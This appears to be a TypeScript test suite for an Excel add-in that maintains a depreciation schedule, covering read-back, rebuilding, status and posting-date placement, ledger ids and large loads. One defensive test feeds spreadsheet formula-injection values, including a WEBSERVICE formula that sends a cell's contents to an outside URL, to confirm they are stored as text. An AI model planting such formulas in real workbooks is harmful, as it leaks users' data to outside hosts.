import { dayFromText, exactCents, type Day } from "../../src/engine";
import { readRegister, readSchedule, type ScheduleLine, type SheetSettings, type StatusBlock } from "../../src/sheet";
import { usualBook } from "../../src/sync";
import { matrixOf } from "../../taskpane/state/draft";
import { keysOf } from "../../taskpane/state/write-outcomes";
import { readOwnSheet, writeOwnSheet } from "../../taskpane/workbook/own-sheet";
import { scheduleSheet } from "../../taskpane/workbook/schedule-sheet";
import { writeLedgerIds } from "../../taskpane/workbook/write-ledger-ids";
import { writePostingDates } from "../../taskpane/workbook/write-posting-dates";
import { writeStatuses } from "../../taskpane/workbook/write-statuses";
import { insertRegister } from "../../taskpane/workbook/insert-register";
import { readTables } from "../../taskpane/workbook/tables";
import { startOffice, type StartedOffice } from "../office/start";
import { valueOf } from "./value-of";

const settings: SheetSettings = { dateSystem: "1900", decimals: 2, yearEnd: 12 };

const line = (asset: string, periodEnd: string, amount: number, memo = "Depreciation"): ScheduleLine => ({
  asset,
  periodEnd: day(periodEnd),
  type: "DEPRECIATION",
  amount: valueOf(exactCents(amount, 2, "amount")),
  counterAccount: "DEPRECIATION",
  memo,
});

const status = (syncKey: string, message = ""): StatusBlock => ({
  syncKey,
  status: "Posted",
  ledgerRef: "ref-1",
  postedAmount: "450.00",
  postedAt: "2026-02-01 10:00:00",
  message,
});

const january = [line("A-001", "2026-01-31", 450), line("007", "2026-01-31", 12.34)];

function day(text: string): Day {
  return valueOf(dayFromText(text));
}

describe("the schedule sheet, through the real office.js", () => {
  let office: StartedOffice;

  beforeEach(async () => {
    office = await startOffice();
  });

  afterEach(() => office.close());

  async function cells(address: string): Promise<unknown[][]> {
    return office.Excel.run(async (context) => {
      const range = context.workbook.worksheets.getItem("Schedule").getRange(address);
      range.load("values");
      await context.sync();
      return range.values as unknown[][];
    });
  }

  test("a workbook without a schedule has none", async () => {
    expect(valueOf(await readOwnSheet(scheduleSheet()))).toBeUndefined();
  });

  test("a written schedule is read back as it was, texts as texts", async () => {
    const matrix = matrixOf(january, [], settings);
    expect(valueOf(await writeOwnSheet(scheduleSheet(), matrix))).toBe("Schedule");
    const schedule = valueOf(await readOwnSheet(scheduleSheet()));
    expect(schedule?.place).toMatchObject({ sheet: "Schedule", row: 0, column: 0, rows: 3 });
    expect(await cells("A2:D3")).toEqual([
      ["A-001", 46053, "DEPRECIATION", 450],
      ["007", 46053, "DEPRECIATION", 12.34],
    ]);
  });

  test("rebuilding with fewer rows leaves nothing of the old ones", async () => {
    valueOf(await writeOwnSheet(scheduleSheet(), matrixOf(january, [], settings)));
    valueOf(await writeOwnSheet(scheduleSheet(), matrixOf(january.slice(0, 1), [], settings)));
    expect(valueOf(await readOwnSheet(scheduleSheet()))?.place.rows).toBe(2);
    expect(await cells("A3:F3")).toEqual([["", "", "", "", "", ""]]);
  });

  test("rebuilding keeps the statuses of the charges that stay", () => {
    const old = january.map((one, index) => ({ ...one, row: index + 1, status: status(`key-${index}`) }));
    const rebuilt = matrixOf([...january].reverse(), old, settings);
    expect(rebuilt.slice(1).map((row) => row[10])).toEqual(["key-1", "key-0"]);
  });

  test("text from elsewhere never becomes a formula", async () => {
    const nasty = line("=1+1", "2026-01-31", 1, '=WEBSERVICE("https://example.com/?"&A1)');
    valueOf(await writeOwnSheet(scheduleSheet(), matrixOf([nasty], [], settings)));
    const schedule = valueOf(await readOwnSheet(scheduleSheet()));
    if (schedule === undefined) throw new Error("There is a schedule.");
    const keys = await keysOf(schedule, settings);
    const statuses = new Map([...keys.values()].map((key) => [key, status(key, '=HYPERLINK("https://example.com")')]));
    expect(valueOf(await writeStatuses(statuses, (now) => keysOf(now, settings)))).toBe(1);
    await office.Excel.run(async (context) => {
      const range = context.workbook.worksheets.getItem("Schedule").getRange("A2:P2");
      range.load("formulas,values");
      await context.sync();
      expect(range.formulas).toEqual(range.values);
    });
  });

  test("statuses find their rows after people sorted and inserted", async () => {
    valueOf(await writeOwnSheet(scheduleSheet(), matrixOf(january, [], settings)));
    const schedule = valueOf(await readOwnSheet(scheduleSheet()));
    if (schedule === undefined) throw new Error("There is a schedule.");
    const [first = "", second = ""] = [...(await keysOf(schedule, settings)).values()];
    const statuses = new Map([
      [first, status(first)],
      [second, { ...status(second), status: "Refused" }],
    ]);
    await office.Excel.run(async (context) => {
      const sheet = context.workbook.worksheets.getItem("Schedule");
      const rows = sheet.getRange("A2:F3");
      rows.load("values");
      await context.sync();
      const [one, other] = rows.values as unknown[][];
      sheet.getRange("A2:F4").values = [other ?? [], ["X", 46053, "DEPRECIATION", 1, "DEPRECIATION", ""], one ?? []];
      await context.sync();
    });
    expect(valueOf(await writeStatuses(statuses, (now) => keysOf(now, settings)))).toBe(2);
    expect(await cells("K2:L4")).toEqual([
      [second, "Refused"],
      ["", ""],
      [first, "Posted"],
    ]);
  });

  test("the posting date goes to the rows of the keys, wherever they stand, and a rebuilt schedule keeps it", async () => {
    valueOf(await writeOwnSheet(scheduleSheet(), matrixOf([...january].reverse(), [], settings)));
    const schedule = valueOf(await readOwnSheet(scheduleSheet()));
    if (schedule === undefined) throw new Error("There is a schedule.");
    const key = [...(await keysOf(schedule, settings)).values()].find((each) => each.includes("A-001")) ?? "";
    const late = { keys: new Set([key]), firstOpen: day("2026-02-01") };
    expect(valueOf(await writePostingDates(late, "1900", usualBook, (now) => keysOf(now, settings)))).toBe(1);
    // 46054 is 2026-02-01, by Excel's own DATEVALUE.
    expect(await cells("J1:J3")).toEqual([["Posting date"], [""], [46_054]]);
    const { lines } = readSchedule(valueOf(await readOwnSheet(scheduleSheet()))?.matrix ?? [], settings);
    expect(matrixOf(january, lines, settings).map((row) => row[9])).toEqual(["Posting date", 46_054, ""]);
  });

  test("a schedule from before there were posting dates gets the column, to the right of everybody's", async () => {
    valueOf(await writeOwnSheet(scheduleSheet(), matrixOf(january, [], settings)));
    await office.Excel.run(async (context) => {
      const sheet = context.workbook.worksheets.getItem("Schedule");
      sheet.getRange("J1:J1").values = [["Their own"]];
      await context.sync();
    });
    const schedule = valueOf(await readOwnSheet(scheduleSheet()));
    if (schedule === undefined) throw new Error("There is a schedule.");
    const late = { keys: new Set((await keysOf(schedule, settings)).values()), firstOpen: day("2026-02-01") };
    expect(valueOf(await writePostingDates(late, "1900", usualBook, (now) => keysOf(now, settings)))).toBe(2);
    expect(await cells("J1:J3")).toEqual([["Their own"], [""], [""]]);
    expect(await cells("Q1:Q3")).toEqual([["Posting date"], [46_054], [46_054]]);
  });

  test("the ledger's ids come to stand beside their assets", async () => {
    valueOf(await insertRegister(settings));
    const table = valueOf(await readTables()).register;
    if (table === undefined) throw new Error("There is a register.");
    const { places } = readRegister(table.matrix, settings);
    const ids = new Map([
      ["A-001", "7d3f2c1e-5b0a-4c7e-9a51-0d1e0b5a7e01"],
      ["unknown", "x"],
    ]);
    expect(valueOf(await writeLedgerIds(table.place, places, ids))).toBe(1);
    const again = valueOf(await readTables()).register;
    expect(readRegister(again?.matrix ?? [], settings).assets.map(({ ledgerId }) => ledgerId)).toEqual([
      "7d3f2c1e-5b0a-4c7e-9a51-0d1e0b5a7e01",
    ]);
    expect(valueOf(await writeLedgerIds(table.place, places, ids))).toBe(0);
  });

  test("five thousand rows go in and out below Excel's limits", async () => {
    const lines = Array.from({ length: 5000 }, (_, index) => line(`A-${index}`, "2026-01-31", index + 1));
    valueOf(await writeOwnSheet(scheduleSheet(), matrixOf(lines, [], settings)));
    const schedule = valueOf(await readOwnSheet(scheduleSheet()));
    expect(schedule?.matrix).toHaveLength(5001);
    expect(schedule?.matrix.at(-1)?.slice(0, 4)).toEqual(["A-4999", 46053, "DEPRECIATION", 5000]);
  });
});
